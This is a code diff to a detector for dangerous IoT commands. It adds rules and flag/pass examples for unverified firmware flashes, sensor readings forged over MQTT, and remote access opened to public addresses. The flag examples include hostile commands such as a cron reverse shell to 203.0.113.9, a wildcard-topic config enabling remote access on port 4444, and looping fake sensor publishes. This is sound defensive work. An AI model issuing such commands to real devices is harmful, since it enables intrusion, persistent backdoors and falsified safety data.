@@ -4,11 +4,12 @@ import { mentions, sanctioned } from '../frames/profiles.js';
 import { instructionMask } from '../frames/instructions.js';
 import { safeguarded } from '../frames/safeguards.js';
 import { BOUND_PATTERNS, statedBoundBroken } from '../frames/bounds.js';
-import { IOT_CONTEXT_PATTERNS, deviceSecretsOut, vehicleAccess, occupancyOf, pastStatedLimit, safetyTagOff, switchPhrases } from '../parse/iot-context.js';
+import { IOT_CONTEXT_PATTERNS, IOT_READING_PATTERNS, READING_KEPT, readingPublished, deviceSecretsOut, vehicleAccess, occupancyOf, pastStatedLimit, safetyTagOff, switchPhrases } from '../parse/iot-context.js';
 import { findNear, metaText, PARSE_LIMIT, PREP_PATTERNS, type PrepContext } from '../parse/infra-prep.js';
 import { PREP_FAST_PATTERNS, prepKeys, prepTextFast } from '../parse/ui-action-host.js';
 import type { Analyzer, Metadata, Primitive, ThreatRule } from '../types.js';
 import { quietWhenDescribed } from '../parse/prose-genre.js';
+import { envOfName } from '../parse/environment.js';
 
 /**
  * iot analyzer (O): commands to homes, vehicles, medical devices and industrial controllers. Physical safety is
@@ -161,6 +162,12 @@ const O08_RX1 = /\b(?:firmware|rom|bootloader|ecu|image|ota)\b|\.(?:bin|hex|img|
 const O08_RX2 = /^\s{0,3}(?:check|list|show|get|read|what)\b|\bcheck for (?:firmware )?updates?\b/i;
 const O08_RX3 = /https?:\/\/(?:\d{1,3}\.){3}\d{1,3}|\bhttp:\/\/|\b(?:unknown|unofficial|untrusted|unverified|third[- ]party|custom|modded|patched|cracked|community|random|forum|telegram|mega\.nz|pastebin|discord)\b|--no-verify|--force|skip(?:ping)? (?:signature|verification|checksum)|unsigned|disable (?:secure boot|signature)|downgrade|\brollback\b|\broll back\b/i;
 const ROLLBACK = /^(?:downgrade|rollback|roll back)$/i;
+/** The request checks the image: its signature verified, or its digest pinned ("sha256": …). */
+const SIGNATURE_KEPT = /"(?:verify_sig(?:nature)?|verify_signature|signature_check|check_signature|require_signed|signed_only)"\s?:\s?true\b|"(?:sha256|sha512|digest|checksum)"\s?:\s?"[0-9a-f]{6}/;
+/** The method and target URL a request line opens with ("POST https://10.1.5.44/api/v1/firmware/update"). */
+const REQUEST_TARGET = /^\s{0,3}(?:post|put|patch|get)\s{1,3}https?:\/\/[^\s/]{1,100}/i;
+/** The same wherever it stands (the value's folded copies repeat it), its method kept. */
+const REQUEST_TARGETS = /\b(post|put|patch|get)\s{1,3}https?:\/\/[^\s/]{1,100}/gi;
 /** A dose the device computed itself (bolus wizard or calculator), and the patient confirming it on the device. */
 const DEVICE_DOSE = /\b(?:suggested|recommended|calculated|computed|proposed) by the (?:bolus |dose |dosing )?(?:wizard|calculator|pump|device|app)\b|\b(?:bolus|dose|dosing) (?:wizard|calculator|advisor)\b/i;
 const PATIENT_CONFIRMS = /\b(?:user|patient|wearer|she|he|they) (?:confirms|confirm|approves|accepts) (?:it |the dose |the bolus )?on the (?:device|pump|handset|controller|phone)\b|\bconfirm(?:ed)? (?:by the (?:user|patient) )?on the (?:device|pump)\b/i;
@@ -288,12 +295,18 @@ const STARTUP_HOOK = /\b(?:startup|boot|init|autostart|rc\.local|cron(?:tab)?|sy
 const TUNNEL_OUT = /\b(?:reverse (?:tunnel|shell|ssh|proxy)|tunnel to [a-z0-9.-]{3,60}|backdoor|beacon to|c2 server|ssh -r\b|ngrok|frp)\b/i;
 /** A password equal to the account name or a default one, or access opened to the outside. */
 const WEAK_SECRET = /\b(?:password|passwort|contrase[ñn]a|mot de passe|senha)\s?'?(?:admin|root|maint|service|password|1234|12345|123456|0000|default|guest)'?/i;
+/** An IPv4 address outside the private, loopback and link-local ranges. */
+const PUBLIC_IPV4 = /\b(?!(?:10|127|0)\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.)(?:\d{1,3}\.){3}\d{1,3}\b/;
+/** An MQTT topic with a wildcard level ("devices/+/config", "site/#"): a message retained there reaches every device. */
+const WILDCARD_TOPIC = /[a-z0-9_-]\/[+#](?:\/|\s|$|['"])/i;
 const EXPOSE_ACCESS = /\b(?:enable|open|allow|activa\w{0,2}|aktivier\w{0,2})\s(?:the\s)?remote (?:access|login|admin|shell)\b/i;
 
 
 /** Someone is on the spot: metadata (home, present, confirmed in the app) or the words (mit:present, several languages). */
 /** A setpoint written below zero ("setpoint_c = -22"): the value as the command states it. */
 const COLD_SETPOINT = /setpoint\w{0,4}\s?[=:]\s?(-\d{1,2}(?:\.\d)?)\b/;
+/** A message that says it is a test ("test": true, a test run). */
+const TEST_MESSAGE = /"test"\s?:\s?true|\btest(?:ing)? (?:message|run|payload|publish)\b/i;
 /** For good: no end to the access. */
 const PERMANENT = /\b(?:permanent(?:ly)?|forever|no expiry|never expires?|indefinitely)\b/i;
 const occupantPresent = (ctx: IotContext): boolean => ctx.occ.present || mentions('iot', ctx, 'mit:present') || PEOPLE_HOME.test(ctx.head);
@@ -649,19 +662,22 @@ const rules: ThreatRule<IotContext>[] = [
     primitive: 'PERSISTENCE',
     score: 8,
     keywords: ['firmware', 'flash', 'ota', '.bin', '.hex', 'rom', 'bootloader', 'secure boot', 'dfu'],
-    pattern: /\b(?:flash(?:ing)?|install|upload|push|update|upgrade|downgrade|rollback|roll back|write|load|ota)\b/i,
+    // a write request to the firmware endpoint ("POST …/firmware {url}") is the flash
+    pattern: /\b(?:flash(?:ing)?|install|upload|push|update|upgrade|downgrade|rollback|roll back|write|load|ota|post|put)\b/i,
     detect: (ctx) => {
       if (!O08_RX1.test(ctx.head)) return null;
       if (O08_RX2.test(ctx.head)) return null;
       // a rollback kept ready ("rollback ready", "with a rollback plan") is the update's safety net, not a downgrade
       const head = ROLLBACK_READY.test(ctx.head) ? ctx.head.replace(ROLLBACK_READY_ALL, ' ') : ctx.head;
-      const why = O08_RX3.exec(head);
+      // the request's own target is the device being updated (often a raw or plain-http local address), not where
+      // the image comes from: the source is read from the rest (the body's URL, the words)
+      const why = O08_RX3.exec(REQUEST_TARGET.test(head) ? head.replace(REQUEST_TARGETS, '$1 ') : head);
       const vehicle = O08_RX4.test(ctx.head);
       // a rollback to an older image brings back the holes the newer one closed (and is how known exploits return)
       if (why && ROLLBACK.test(why[0]) && !O08_UNTRUSTED.test(ctx.head)) return { detail: `firmware ${why[0].toLowerCase()} to an older version (its fixed vulnerabilities return)`, score: vehicle ? 6 : 4 };
       if (!why) {
         // a signed image, or a bench or test controller: the routine way firmware reaches a controller
-        if (!vehicle || safeguarded(ctx.head, ctx.metadata, ['signed', 'nonprod', 'dryrun'])) return null;
+        if (!vehicle || SIGNATURE_KEPT.test(ctx.head) || safeguarded(ctx.head, ctx.metadata, ['signed', 'nonprod', 'dryrun'])) return null;
         return { detail: 'firmware write to a safety-critical controller', score: 5 };
       }
       return { detail: `firmware from ${why[0].toLowerCase()}${vehicle ? ' onto a safety-critical controller' : ''}`, score: vehicle ? 9 : 8 };
@@ -669,9 +685,11 @@ const rules: ThreatRule<IotContext>[] = [
     reason: (d) => `Untrusted code on the device: ${d}`,
     examples: {
       flag: ['flash firmware from http://45.133.1.7/fw/cam_v2.bin to all cameras', 'install the custom unsigned firmware on the router with --no-verify', 'push OTA firmware update to the brake ECU',
-        { value: 'ota.rollback version=2.0.1', metadata: { device: 'gateway-07', current_version: '2.4.0' } }, 'downgrade the camera firmware to 1.2'],
+        { value: 'ota.rollback version=2.0.1', metadata: { device: 'gateway-07', current_version: '2.4.0' } }, 'downgrade the camera firmware to 1.2',
+        'POST https://10.4.2.9/api/firmware/update {"url": "http://198.51.100.7/fw/ups-3.1.bin", "reboot": true}'],
       pass: ['check for firmware updates on the thermostat', 'install the vendor firmware update 4.2.1 on the hub', 'show the firmware version of the doorbell',
-        'Push signed firmware ctrl_v9.1 to test PLC bench-01 only', 'Roll out vendor firmware 5.0 to 20 pilot thermostats first, rollback plan tested', 'flash the vendor-signed firmware 3.2 onto the PLC in the staging cell', 'Signierte Firmware 2.4 auf die Test-SPS im Labor laden'],
+        'Push signed firmware ctrl_v9.1 to test PLC bench-01 only', 'Roll out vendor firmware 5.0 to 20 pilot thermostats first, rollback plan tested', 'flash the vendor-signed firmware 3.2 onto the PLC in the staging cell', 'Signierte Firmware 2.4 auf die Test-SPS im Labor laden',
+        'POST https://10.4.2.9/api/firmware/update {"url": "https://downloads.ups-vendor.example/fw/ups-3.1.bin", "sha256": "4be1…", "verify_signature": true}'],
     },
   },
   {
@@ -792,6 +810,31 @@ const rules: ThreatRule<IotContext>[] = [
     },
   },
   {
+    id: 'O21',
+    name: 'Sensor readings forged by publishing them by hand',
+    // what it does: dashboards, alarms and control loops act on a value no sensor measured (a cold room reported cold
+    // while it warms, a pen's oxygen reported healthy); the record and the decisions made on it are falsified
+    primitive: 'MANIPULATION',
+    score: 6,
+    keywords: ['mosquitto_pub', 'publish', '/'],
+    detect: (ctx) => {
+      const topic = readingPublished(ctx.text);
+      if (topic === undefined) return null;
+      // a test broker or topic, or a message marked as a test, feeds nothing that acts
+      if (TEST_MESSAGE.test(ctx.head) || envOfName(metaText(ctx.metadata, 'environment', 'env', 'broker') ?? '') === 'nonprod') return null;
+      const kept = READING_KEPT.test(ctx.text);
+      return { detail: `${topic}${kept ? ', sent repeatedly or retained' : ''}`, score: kept ? 8 : 6 };
+    },
+    reason: (d) => `Publishes a measurement as if the device had reported it: ${d}`,
+    examples: {
+      flag: ["mosquitto_pub -h mqtt.plant.local -t 'line2/sensors/tank3/level' -m '{\"pct\": 55}'", "while true; do mosquitto_pub -h mqtt.farm.local -t barn/sensors/co2 -m '412'; sleep 30; done",
+        'PUBLISH (retain) harbour/crane4/wind/speed {"ms": 3.1}', 'coldstore/room2/temperature {"c": 2.9, "ts": "2025-01-10T03:00:00Z"}'],
+      pass: ["mosquitto_pub -h mqtt.plant.local -t 'line2/tank3/setpoint' -m '{\"pct\": 55}'", "mosquitto_pub -h mqtt-sandbox.plant.local -t test/sensors/tank3/level -m '{\"pct\": 55, \"test\": true}'",
+        "mosquitto_sub -h mqtt.farm.local -t 'barn/sensors/#' -C 10", 'PUBLISH harbour/crane4/wind/config {"report_interval_s": 10}', 'PUBLISH site/inverter/02/cmd/get {"fields": ["status"]}',
+        "mosquitto_pub -h plant-broker.local -t 'line2/sensors/press/level' -m 'REFRESH'"],
+    },
+  },
+  {
     id: 'O10',
     name: 'Mass command or factory reset across devices',
     primitive: 'DESTRUCTION',
@@ -886,12 +929,21 @@ const rules: ThreatRule<IotContext>[] = [
     // what it does to the owner: someone keeps a way in after the command is done
     primitive: 'PERSISTENCE',
     score: 5,
-    keywords: ['user', 'account', 'login', 'startup', 'boot script', 'autostart', 'cron', 'rc.local', 'systemd', 'tunnel', 'backdoor', 'reverse shell', 'benutzer', 'konto', 'usuario', 'cuenta', 'utilisateur', 'compte', 'utente', 'gebruiker'],
+    keywords: ['user', 'account', 'login', 'startup', 'boot script', 'autostart', 'cron', 'rc.local', 'systemd', 'tunnel', 'backdoor', 'reverse shell', 'remote shell', 'remote access', 'remote admin', 'benutzer', 'konto', 'usuario', 'cuenta', 'utilisateur', 'compte', 'utente', 'gebruiker'],
     detect: (ctx) => {
       if (QUESTION.test(ctx.head)) return null;
       const account = LOGIN_ADDED.exec(ctx.head);
       const startup = account === null ? STARTUP_HOOK.exec(ctx.head) : null;
-      if (account === null && startup === null) return null;
+      if (account === null && startup === null) {
+        // remote access or a shell switched on towards a public address, or on every device a wildcard topic reaches
+        const opened = EXPOSE_ACCESS.exec(ctx.head);
+        if (opened === null) return null;
+        const outside = PUBLIC_IPV4.exec(ctx.head);
+        const wide = WILDCARD_TOPIC.test(ctx.text) || O10_RX1.test(ctx.head);
+        if (outside === null && !wide) return null;
+        if (outside === null && safeguarded(ctx.head, ctx.metadata, ['approved', 'ticket', 'timebox', 'nonprod'])) return null;
+        return { detail: `${opened[0]}${outside !== null ? ` to ${outside[0]}` : ''}${wide ? ' on every device' : ''}`, score: outside !== null ? 8 : 6 };
+      }
       const tunnel = TUNNEL_OUT.exec(ctx.head);
       if (startup !== null && tunnel === null) return null;
       const fleet = O10_RX1.test(ctx.head) || FLEET_DEVICE.test(metaText(ctx.metadata, 'device', 'target', 'group') ?? '');
@@ -905,9 +957,11 @@ const rules: ThreatRule<IotContext>[] = [
     examples: {
       flag: ["Add SSH user 'maint' with password 'maint' on all smart meters and enable remote access", 'Install a startup script on all EV chargers that opens a reverse tunnel to tunnel.iot-remote.ru',
         'create a hidden admin account on the NVR', "Lege auf allen Gateways einen SSH-Benutzer 'service' mit Passwort 'service' an", 'add a cron job on the camera that opens a reverse shell to 203.0.113.9',
-        "crear una cuenta root en todos los routers con contraseña 'admin'"],
+        "crear una cuenta root en todos los routers con contraseña 'admin'", 'PUBLISH (retain) site/+/config {"remote_access":{"enabled":true,"host":"198.51.100.23","port":4444}}',
+        'enable remote shell on the gateway to 203.0.113.50:2222'],
       pass: ["remove the SSH user 'maint' from all smart meters", 'list the admin accounts on the gateway', 'add a guest user to the thermostat app', 'rotate the admin password on the gateway',
-        'install the startup script that syncs the clock on the gateway', 'add a service account on the staging hub per ticket CHG-2210', 'create a user for the cleaner in the smart lock app'],
+        'install the startup script that syncs the clock on the gateway', 'add a service account on the staging hub per ticket CHG-2210', 'create a user for the cleaner in the smart lock app',
+        'PUBLISH (retain) site/gw-2/config {"remote_access":{"enabled":false}}', 'PUBLISH (retain) site/+/config {"remote_shell":{"enabled":false},"ntp":"ntp.site.local"}', 'disable remote shell on all gateways'],
     },
   },
   {
@@ -957,6 +1011,6 @@ const iotAnalyzer: Analyzer<IotContext> = {
   keywordsAtWordStart: true,
   rules: quietWhenDescribed<IotContext, ThreatRule<IotContext>>(rules),
   effect: iotEffect,
-  auxPatterns: [WITHIN_RANGE, LIMITS_KEPT, ...BOUND_PATTERNS, STANDING_IDENTITY, STANDING_AUTOMATION, AUTOMATION_OFF, VOICE_CAPTURE, WATCHING_DEVICE, FEW_HOURS, DEVICE_DOSE, PATIENT_CONFIRMS, DOSE_OVERRIDE, ROLLBACK_READY, ROLLBACK_READY_ALL, HOME_ENTRY, COLD_SETPOINT, PEOPLE_HOME, LIFE_SAFETY, PERMANENT, ...IOT_CONTEXT_PATTERNS, LOGIN_ADDED, STARTUP_HOOK, TUNNEL_OUT, WEAK_SECRET, EXPOSE_ACCESS, OUT_OF_SERVICE, SAFETY_OBJECT, OFF_STATE, TEMPERATURE_FOREIGN, ALARM_WORD, OUTSIDE_WORD, O09_INSIDE, O09_CRITICAL, O09_LONG, FOREIGN_MONITOR, FOREIGN_OFF, ACCESS_FIRST, THEN_OPEN, UNDERSCORE, ...PREP_PATTERNS, ...PREP_FAST_PATTERNS, ...DETECT_PATTERNS, O02_WRITE, O02_ANY, PROCESS_CONTEXT, PROCESS_OBJECT, PROCESS_VERB, POLL_WRITE, CRITICAL_PROCESS, VEHICLE_TRACKING, VEHICLE_WORD, STRUCTURED, STRUCT_SEP, SPACES, COMMAND_MARK, CMD_OBJ_VERB, CMD_VERB_OBJ, DISARM, FOREIGN_OBJECT, FOREIGN_VERB, FOREIGN_ALARM, NOT_THE_DOOR, VEHICLE_DIRECT, VEHICLE_SAFETY, VEHICLE_OFF_VERB, EXPOSE_VERB, ALARM_CLOCK, SETPOINT_WRITE, BLIND_DIRECT, MONITOR_OBJECT, BLIND_VERB, O09_ALL, AWAY_WORDS, NIGHT_WORDS, CLOCK, QUESTION, TEMPERATURE],
+  auxPatterns: [WITHIN_RANGE, LIMITS_KEPT, ...BOUND_PATTERNS, STANDING_IDENTITY, STANDING_AUTOMATION, AUTOMATION_OFF, VOICE_CAPTURE, WATCHING_DEVICE, FEW_HOURS, DEVICE_DOSE, PATIENT_CONFIRMS, DOSE_OVERRIDE, ROLLBACK_READY, ROLLBACK_READY_ALL, REQUEST_TARGET, REQUEST_TARGETS, SIGNATURE_KEPT, HOME_ENTRY, COLD_SETPOINT, PEOPLE_HOME, LIFE_SAFETY, PERMANENT, ...IOT_CONTEXT_PATTERNS, ...IOT_READING_PATTERNS, TEST_MESSAGE, LOGIN_ADDED, STARTUP_HOOK, TUNNEL_OUT, WEAK_SECRET, EXPOSE_ACCESS, PUBLIC_IPV4, WILDCARD_TOPIC, OUT_OF_SERVICE, SAFETY_OBJECT, OFF_STATE, TEMPERATURE_FOREIGN, ALARM_WORD, OUTSIDE_WORD, O09_INSIDE, O09_CRITICAL, O09_LONG, FOREIGN_MONITOR, FOREIGN_OFF, ACCESS_FIRST, THEN_OPEN, UNDERSCORE, ...PREP_PATTERNS, ...PREP_FAST_PATTERNS, ...DETECT_PATTERNS, O02_WRITE, O02_ANY, PROCESS_CONTEXT, PROCESS_OBJECT, PROCESS_VERB, POLL_WRITE, CRITICAL_PROCESS, VEHICLE_TRACKING, VEHICLE_WORD, STRUCTURED, STRUCT_SEP, SPACES, COMMAND_MARK, CMD_OBJ_VERB, CMD_VERB_OBJ, DISARM, FOREIGN_OBJECT, FOREIGN_VERB, FOREIGN_ALARM, NOT_THE_DOOR, VEHICLE_DIRECT, VEHICLE_SAFETY, VEHICLE_OFF_VERB, EXPOSE_VERB, ALARM_CLOCK, SETPOINT_WRITE, BLIND_DIRECT, MONITOR_OBJECT, BLIND_VERB, O09_ALL, AWAY_WORDS, NIGHT_WORDS, CLOCK, QUESTION, TEMPERATURE],
 };
 export default iotAnalyzer;
